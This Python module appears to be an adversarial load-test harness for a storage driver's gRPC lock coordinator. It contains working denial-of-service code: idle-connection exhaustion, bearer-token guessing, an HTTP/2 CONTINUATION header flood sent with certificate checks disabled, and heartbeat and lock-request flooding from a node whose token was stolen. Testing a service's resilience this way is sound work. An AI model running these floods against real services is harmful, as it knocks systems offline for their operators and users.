"""Attackers of an installed driver: a stranger without credentials, and a node that was broken into.

    python3 -m kube.failover.flood stranger HOST:PORT …
    python3 -m kube.failover.flood node HOST:PORT CA_FILE SERVER_NAME TOKEN NODE_NAME VOLUME

Each goes on until it is killed, as fast as it may.
"""

import contextlib
import itertools
import select
import socket
import ssl
import sys
import threading

import grpc

from harness import places

IDLE_CONNECTIONS = 1000  # to each port
HEADER_BYTES = 6 << 20
INSTANCES, WAITING = 1000, 1000
HEARTBEAT_BYTES = 1 << 20
HEADERS, CONTINUATION = 1, 9  # kinds of frames (RFC 9113, 6)
FRAME_BYTES = 16 << 10
PROTOCOLS = ("devices/connection.proto", "fencing/protocol/coordinator.proto")
SERVICE = "/lunkeeper.coordinator.v1.Coordinator/"


def endpoint(text):
    host, _, port = text.rpartition(":")
    return host, int(port)


def keep_idle(where):
    """Holds so many connections that say nothing, and makes another for each that was closed."""
    held = {}
    while True:
        while len(held) < IDLE_CONNECTIONS:
            with contextlib.suppress(OSError):
                each = socket.create_connection(where, timeout=1)
                held[each.fileno()] = each
        poll = select.poll()
        for each in held:
            poll.register(each, select.POLLIN)
        for ended, _ in poll.poll(1000):
            held.pop(ended).close()


def field(name, value):
    """A literal header field that is not indexed (RFC 7541, 6.2.2)."""
    return b"\0" + length(len(name)) + name + length(len(value)) + value


def length(value):
    """An integer with a prefix of seven bits (RFC 7541, 5.1)."""
    if value < 127:
        return bytes([value])
    value, text = value - 127, b"\x7f"
    while value >= 128:
        value, text = value >> 7, text + bytes([value % 128 + 128])
    return text + bytes([value])


def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def call(token):
    named = {":method": "POST", ":scheme": "https", ":path": f"{SERVICE}Heartbeats", "te": "trailers"}
    headers = {**named, "content-type": "application/grpc", "authorization": f"Bearer {token}"}
    return b"".join(field(name.encode(), value.encode()) for name, value in headers.items())


def connect_http2(where):
    """Without a look at the server's certificate."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    connection = context.wrap_socket(socket.create_connection(where, timeout=5))
    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
    return connection


def guess_tokens(where):
    for number in itertools.count():
        with contextlib.suppress(OSError), connect_http2(where) as connection:
            for stream in range(1, 2000, 2):
                connection.sendall(frame(HEADERS, 5, stream, call(f"{number}.{stream}")))


def send_endless_headers(where):
    value = b"a" * HEADER_BYTES
    block = call("x") + field(b"x", value)
    pieces = [block[at : at + FRAME_BYTES] for at in range(0, len(block), FRAME_BYTES)]
    while True:
        with contextlib.suppress(OSError), connect_http2(where) as connection:
            connection.sendall(frame(HEADERS, 0, 1, pieces[0]))
            for piece in pieces[1:]:
                connection.sendall(frame(CONTINUATION, 0, 1, piece))


class BrokenNode:
    """What the token of one node can do: its machine's name is right, and all else is made up."""

    def __init__(self, where, ca_file, server_name, token, name):
        messages = places.generate("fencing.protocol.coordinator_pb2", ".", *PROTOCOLS)
        self.messages, self.name = messages, name
        with open(ca_file, "rb") as file:
            credentials = grpc.ssl_channel_credentials(file.read())
        options = [("grpc.ssl_target_name_override", server_name), ("grpc.use_local_subchannel_pool", 1)]
        channel = grpc.secure_channel(where, credentials, options)
        self.metadata = (("authorization", f"Bearer {token}"),)
        self.heartbeats = channel.stream_stream(
            SERVICE + "Heartbeats", messages.Heartbeat.SerializeToString, messages.HeartbeatAnswer.FromString
        )
        self.acquire = channel.unary_unary(
            SERVICE + "Acquire", messages.AcquireRequest.SerializeToString, messages.Grant.FromString
        )

    def instance(self, number):
        return f"{self.name}.{number % INSTANCES:016x}"

    def send_heartbeats(self):
        """A stream for each instance in turn, with large heartbeats in it."""
        present = [f"{number:0120d}" for number in range(HEARTBEAT_BYTES // 128)]
        for number in itertools.count():
            each = [
                self.messages.Heartbeat(node=self.instance(number), sequence=sequence, present=present)
                for sequence in range(20)
            ]
            with contextlib.suppress(grpc.RpcError):
                for _ in self.heartbeats(iter(each), metadata=self.metadata, timeout=5):
                    pass

    def wait_for(self, volume):
        """So many requests at a time that wait for what another node has."""
        waiting = []
        for number in itertools.count():
            request = self.messages.AcquireRequest(
                node=self.instance(number), volume_id=volume, access=1, wait_ms=60_000
            )
            waiting.append(self.acquire.future(request, metadata=self.metadata, timeout=60))
            if len(waiting) >= WAITING:
                with contextlib.suppress(grpc.RpcError, grpc.FutureTimeoutError):
                    waiting.pop(0).result(timeout=1)


def run_beside(*jobs):
    for job, *arguments in jobs:
        threading.Thread(target=job, args=arguments, daemon=True).start()
    threading.Event().wait()


def main():
    kind, *arguments = sys.argv[1:]
    if kind == "stranger":
        everywhere = [endpoint(each) for each in arguments]
        jobs = (keep_idle, guess_tokens, send_endless_headers)
        run_beside(*((job, each) for each in everywhere for job in jobs))
    where, ca_file, server_name, token, name, volume = arguments
    node = BrokenNode(where, ca_file, server_name, token, name)
    run_beside((node.send_heartbeats,), (node.wait_for, volume))


if __name__ == "__main__":
    main()
